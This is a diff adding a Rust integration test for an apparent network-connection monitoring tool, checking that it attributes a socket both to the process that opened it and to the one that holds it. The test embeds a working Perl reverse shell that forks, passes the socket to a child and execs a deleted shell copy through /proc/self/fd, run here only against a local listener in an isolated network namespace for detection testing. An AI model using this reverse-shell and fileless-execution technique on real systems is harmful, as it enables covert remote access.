@@ -1,0 +1,120 @@
+//! Processes that hold a connection which another process opened.
+
+use std::{
+    io::{BufRead, BufReader, Write},
+    net::{TcpListener, TcpStream},
+    process::Command,
+    thread,
+    time::{Duration, Instant},
+};
+
+use serde_json::Value;
+
+use super::programs::bash;
+use crate::kernel::{
+    harness::{Watch, patience},
+    journal::now,
+    netns::Netns,
+    recording::{Directory, Record, history, objects, settle},
+    tier::{Tier, tier},
+};
+
+/// The shape of a reverse shell: a script connects to its first argument, leaves the connection to
+/// a child and ends; the child becomes a shell, the file of its second argument, which it deletes.
+const SHELL: &str = r#"
+    use IO::Socket::INET;
+    $s = IO::Socket::INET->new(PeerAddr => $ARGV[0]) or die;
+    exit if fork;
+    open(STDIN, "<&", $s); open(STDOUT, ">&", $s);
+    $^F = 99; open($file, "<", $ARGV[1]) or die; unlink $ARGV[1];
+    exec {"/proc/self/fd/" . fileno($file)} "sh", "-s", "quiet";
+"#;
+
+/// Asserts the process that opened a connection, and the one that holds it.
+#[track_caller]
+fn assert_both(row: &Value, [opener, holder]: [u32; 2], copy: &str) {
+    let exact = |text: &str| if tier() == Tier::Basic { Value::Null } else { text.into() };
+    assert_eq!(
+        (&row["pid"], &row["comm"], &row["owner_evidence"]),
+        (&opener.into(), &"perl".into(), &"connect".into()),
+        "{row:#}"
+    );
+    assert_eq!(row["holder_pid"], holder, "{row:#}");
+    let fields = [("holder_exe", copy), ("holder_args", "sh -s quiet")];
+    for (name, wanted) in fields {
+        assert_eq!(row[name], exact(wanted), "{name} of {row:#}");
+    }
+    if tier() != Tier::Basic {
+        assert_eq!(row["holder_exe_deleted"], true, "{row:#}");
+        assert_eq!(row["holder_ppid"], opener, "{row:#}");
+        assert!(row["exe"].as_str().is_some_and(|exe| exe.contains("perl")), "{row:#}");
+    }
+}
+
+#[test]
+fn a_reverse_shell_is_opened_by_one_process_and_held_by_another() {
+    let directory = Directory::new();
+    let copies = Directory::new();
+    let copy = copies.0.join("copy").to_string_lossy().into_owned();
+    std::fs::copy(bash(), &copy).expect("a copy");
+    Netns::new().run(|| {
+        let record = Record::start(&directory.0);
+        let mut watch = Watch::start(&[]);
+        let listener = TcpListener::bind("127.0.0.1:0").expect("a listener");
+        let address = listener.local_addr().expect("bound");
+        let mut script = Command::new("perl");
+        let mut script =
+            script.args(["-e", SHELL, &address.to_string(), &copy]).spawn().expect("perl");
+        let opener = script.id();
+        let (mut server, client) = listener.accept().expect("accepted");
+        assert!(script.wait().expect("its end").success());
+        server.set_read_timeout(Some(patience())).expect("a limit");
+        writeln!(server, "echo $$").expect("written");
+        let mut answer = String::new();
+        let mut lines = BufReader::new(server.try_clone().expect("a copy"));
+        lines.read_line(&mut answer).expect("the number of the shell");
+        let both = [opener, answer.trim().parse().expect("a number")];
+
+        // Each change of the table brings dumps.
+        let change = || drop(TcpStream::connect(address).expect("connected"));
+        let filter = format!("sport = :{} and dir = out", client.port());
+        let end = Instant::now() + patience();
+        let then = loop {
+            change();
+            thread::sleep(Duration::from_secs(1));
+            let moment = now();
+            thread::sleep(Duration::from_millis(600));
+            let args = ["snapshot", "-tanp", "--json", "--at", &moment, &filter, "--journal"];
+            let rows = objects(&args, &directory.0);
+            if let Some(row) = rows.into_iter().find(|row| row["holder_pid"] == both[1]) {
+                break row;
+            }
+            assert!(Instant::now() < end, "no dump has found the shell");
+        };
+        assert_both(&then, both, &copy);
+        let owners = then["owners"].as_array().expect("a list");
+        assert_eq!((owners.len(), &owners[0]["pid"]), (1, &both[1].into()), "{then:#}");
+
+        change();
+        watch.dumps(1);
+        drop((lines, server));
+        let is_it = |event: &&Value| {
+            event["type"] == "closed"
+                && event["local_port"] == client.port()
+                && event["direction"] == "outbound"
+        };
+        watch.until("the end", |events| events.iter().any(|event| is_it(&event)));
+        assert_both(watch.events.iter().find(is_it).expect("there"), both, &copy);
+
+        record.stop();
+        settle(&directory);
+        let by = if tier() == Tier::Basic {
+            format!("pid = {}", both[1])
+        } else {
+            format!("exe = {copy} and comm = perl")
+        };
+        let rows = history(&directory.0, &format!("{filter} and {by}"));
+        let [row] = &rows[..] else { panic!("{rows:#?}") };
+        assert_both(row, both, &copy);
+    });
+}
